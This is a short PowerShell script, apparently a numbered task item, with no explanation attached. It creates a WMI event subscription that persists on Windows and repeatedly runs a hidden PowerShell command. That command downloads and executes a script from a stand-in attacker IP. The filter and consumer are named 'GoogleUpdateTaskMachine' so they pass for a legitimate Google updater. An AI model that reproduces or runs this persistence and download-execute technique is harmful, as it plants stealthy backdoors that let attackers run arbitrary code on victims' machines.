# task 9743 v0
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='GoogleUpdateTaskMachine';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='GoogleUpdateTaskMachine';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/a.ps1')"}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
